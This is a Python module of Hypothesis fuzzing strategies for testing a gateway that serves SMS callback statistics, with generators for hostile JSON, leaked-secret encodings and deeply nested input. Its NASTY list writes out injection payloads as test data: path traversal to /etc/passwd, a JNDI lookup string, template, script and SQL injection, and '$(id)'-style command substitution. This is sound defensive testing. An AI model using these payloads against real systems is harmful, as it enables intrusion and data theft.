"""Hypothesis strategies for hostile input: JSON of any shape, nasty strings, odd numbers."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

#: strings that have broken gateways before: encodings, look-alike digits, injections, markup
NASTY = (
    "", " ", "\t", "\x00", "null", "None", "undefined", "NaN", "true", "[]", "{}", "0", "-0", "00",
    "1400006874\x00", " 1400006874 ", "1400006874\n", "1400006874\u200b", "\u202e4786000041",
    "١٤٠٠٠٠٦٨٧٤", "１４００００６８７４", "14000068740", "140000687", "0x53724E8A", "1.4e9", "1400006874.0",
    "../../etc/passwd", "%2e%2e%2f", "..\\..\\", "${jndi:ldap://x.invalid/a}", "{{7*7}}", "<%= 7*7 %>",
    "<script>alert(1)</script>", "' OR '1'='1", "\"; DROP TABLE x; --", "$(id)", "`id`", "|id",
    "yesterday\n", "YESTERDAY", "last_7d ", "today", "2026112000", "9999123123", "0000000000",
    "2026022900", "2026113024", "202611200", "20261120000", "1970010100", "2026112500", "2026112600",
    "@all", "<!channel>", "<@U123>", "[x](http://evil.invalid)", "<at user_id=\"all\"></at>",
    "\ud800", "\udfff", "\ufffd", "\ufeff", "🙂" * 17, "A" * 65, "ǅ" * 30, "\u0301" * 50,
    "Bearer", "Bearer ", "bearer x", "Basic YWRtaW46YWRtaW4=",
)

#: text including lone surrogates and every Unicode category
any_text = st.text(st.characters(exclude_categories=()), max_size=80)
hostile_text = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=40),
    any_text,
    st.builds(lambda s, n: s * n, st.text(min_size=1, max_size=4), st.integers(min_value=20, max_value=6000)),
)
numbers = st.one_of(
    st.integers(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([0, -1, 1, 1400006874, 2**63, -(2**63), 1e308, -0.0]),
)
scalars = st.one_of(st.none(), st.booleans(), numbers, hostile_text)


def json_values(max_leaves: int = 12) -> st.SearchStrategy[Any]:
    """Any JSON value (what a JSON-decoded event can hold), nested."""
    return st.recursive(
        scalars,
        lambda children: st.one_of(
            st.lists(children, max_size=4),
            st.dictionaries(st.one_of(hostile_text, st.sampled_from(KEYS)), children, max_size=5),
        ),
        max_leaves=max_leaves,
    )


#: the parameter names a lookup reads (and a few near misses)
KEYS = ("app_id", "SmsSdkAppId", "begin", "BeginTime", "end", "EndTime", "window", "granularity",
        "Limit", "limit", "Offset", "offset", "APP_ID", "app_id ", "token", "job", "app_ids", "Type",
        "httpMethod", "path", "headers", "body", "Message")


# ---------------------------------------------------------------------------------------------
# Generated secrets: shared prefixes, mixed case, JSON-special characters, short ones.
# ---------------------------------------------------------------------------------------------
#: what a secret may hold and still be configured anywhere (no separators: `,` splits API_TOKENS,
#: blanks are trimmed; `*` is the mask itself, so a leak check could not tell them apart)
SECRET_ALPHABET = ("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
                   "-_.~+/=:@!$%^()[]{}<>?|;'\"\\`é网")
_core = st.text(st.sampled_from(SECRET_ALPHABET), min_size=8, max_size=32).filter(lambda s: len(set(s)) >= 4)


def _recase(draw: Any, text: str) -> str:
    """`text` with a generated mix of upper and lower case."""
    flips = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    return "".join(c.swapcase() if f else c for c, f in zip(text, flips))


@st.composite
def secret_sets(draw: Any, allow_short: bool = True) -> list[str]:
    """2..4 distinct secrets of 8+ characters, often sharing a long prefix (as tokens of one
    generator do), plus sometimes one shorter than 4 characters."""
    shared = draw(st.booleans())
    prefix = draw(_core) if shared else ""
    secrets = draw(st.lists(_core, min_size=2, max_size=4, unique=True))
    out = list(dict.fromkeys(prefix + s for s in secrets))
    if allow_short and draw(st.integers(0, 3)) == 0:
        out.append(draw(st.text(st.sampled_from(SECRET_ALPHABET), min_size=1, max_size=3)))
    return out


@st.composite
def leaked_forms(draw: Any, secret: str) -> str:
    """How an upstream message might quote `secret`: whole, re-cased, JSON-escaped, URL-encoded,
    a prefix, a suffix, a middle part, split by a new line, or base64 (at any alignment)."""
    import base64
    import json as _json
    from urllib.parse import quote

    kind = draw(st.sampled_from(["whole", "recased", "json", "url", "prefix", "suffix", "middle", "split",
                                 "base64", "basic"]))
    n = len(secret)
    if kind == "whole" or n < 8:
        return secret
    if kind == "recased":
        return _recase(draw, secret)
    if kind == "json":
        return _json.dumps(secret)[1:-1]
    if kind == "url":
        return quote(secret, safe="")
    if kind == "prefix":
        return secret[: draw(st.integers(8, n))]
    if kind == "suffix":
        return secret[draw(st.integers(0, n - 6)):]
    if kind == "middle":
        start = draw(st.integers(0, n - 6))
        return secret[start: draw(st.integers(start + 6, n))]
    if kind == "split":
        cut = draw(st.integers(1, n - 1))
        return secret[:cut] + draw(st.sampled_from(["\n", "\r\n", " ", "\t\n "])) + secret[cut:]
    if kind == "base64":
        return base64.b64encode(secret.encode("utf-8")).decode("ascii")
    return "Basic " + base64.b64encode(f"{draw(st.sampled_from(['u', 'us', 'usr']))}:{secret}".encode()).decode()


# ---------------------------------------------------------------------------------------------
# Deep and wide JSON
# ---------------------------------------------------------------------------------------------
class Deep:
    """A JSON value nested `depth` deep, built on demand: hypothesis prints examples with
    recursion, so the example it holds is this short description, not the value."""

    def __init__(self, depth: int, keys: list[str], leaf: Any):
        self.depth, self.keys, self.leaf = depth, keys, leaf

    def value(self) -> Any:
        value = self.leaf
        for i in range(self.depth):
            value = [value] if i % 3 == 0 else {self.keys[i % len(self.keys)]: value}
        return value

    def text(self, key: str | None = None) -> str:
        """The same value as JSON text (json.dumps would recurse), optionally as `{"job": "report", key: ...}`."""
        import json as _json

        opens, closes = [], []
        for i in reversed(range(self.depth)):
            if i % 3 == 0:
                opens.append("[")
                closes.append("]")
            else:
                opens.append("{" + _json.dumps(self.keys[i % len(self.keys)]) + ": ")
                closes.append("}")
        body = "".join(opens) + _json.dumps(self.leaf) + "".join(reversed(closes))
        return body if key is None else '{"job": "report", ' + _json.dumps(key) + ": " + body + "}"

    def __repr__(self) -> str:
        return f"Deep(depth={self.depth}, keys={self.keys!r}, leaf={self.leaf!r})"


@st.composite
def deep_json(draw: Any, min_depth: int = 33, max_depth: int = 20_000) -> Deep:
    """A JSON value nested `min_depth..max_depth` deep in lists and objects (see `Deep`)."""
    return Deep(draw(st.integers(min_depth, max_depth)),
                draw(st.sampled_from([["window"], ["a", "app_ids"], ["job", "x", "begin"]])),
                draw(st.sampled_from([1, "yesterday", None, [], {}])))


@st.composite
def wide_json(draw: Any) -> Any:
    """A JSON object that is shallow but big: long strings, long lists, many keys."""
    size = draw(st.integers(1_000, 60_000))
    kind = draw(st.sampled_from(["long string", "long list", "many keys", "long key", "long ids"]))
    if kind == "long string":
        return {draw(st.sampled_from(["window", "job", "granularity", "x"])): "w" * size}
    if kind == "long list":
        return {draw(st.sampled_from(["app_ids", "window", "x"])): [draw(scalars) for _ in range(3)] * (size // 3)}
    if kind == "many keys":
        return {f"k{i}": i for i in range(size // 10)}
    if kind == "long key":
        return {"k" * size: 1}
    return {"app_ids": [f"{1500000000 + i}" for i in range(size)]}


# ---------------------------------------------------------------------------------------------
# Upstream counters as CallbackStatusStatistics might answer them
# ---------------------------------------------------------------------------------------------
_COUNTER = st.one_of(
    st.integers(0, 10**9),
    st.integers(0, 10**9),
    st.integers(-10**6, -1),
    st.floats(allow_nan=False, allow_infinity=False, min_value=-1e9, max_value=1e9),
    st.integers(0, 10**6).map(str),
    st.booleans(),
    st.none(),
)
COUNTER_FIELDS = ("RequestSuccessCount", "CallbackCount", "CallbackSuccessCount", "CallbackFailCount",
                  "InternalErrorCount", "InvalidNumberCount", "ShutdownErrorCount", "BlackListCount",
                  "FrequencyLimitCount")


@st.composite
def counter_answers(draw: Any) -> dict[str, Any]:
    """The nine counters: often consistent, often subtly not (a wrong type, a missing field,
    a negative, more receipts than submissions, more successes than receipts)."""
    submitted = draw(st.integers(0, 10**7))
    receipts = draw(st.integers(0, submitted))
    succeeded = draw(st.integers(0, receipts))
    answer: dict[str, Any] = {
        "RequestSuccessCount": submitted, "CallbackCount": receipts, "CallbackSuccessCount": succeeded,
        "CallbackFailCount": receipts - succeeded,
    }
    for name in COUNTER_FIELDS[4:]:
        answer[name] = draw(st.integers(0, receipts - succeeded))
    for name in draw(st.lists(st.sampled_from(COUNTER_FIELDS), max_size=3, unique=True)):
        answer[name] = draw(_COUNTER)
    return {k: v for k, v in answer.items() if v is not None}
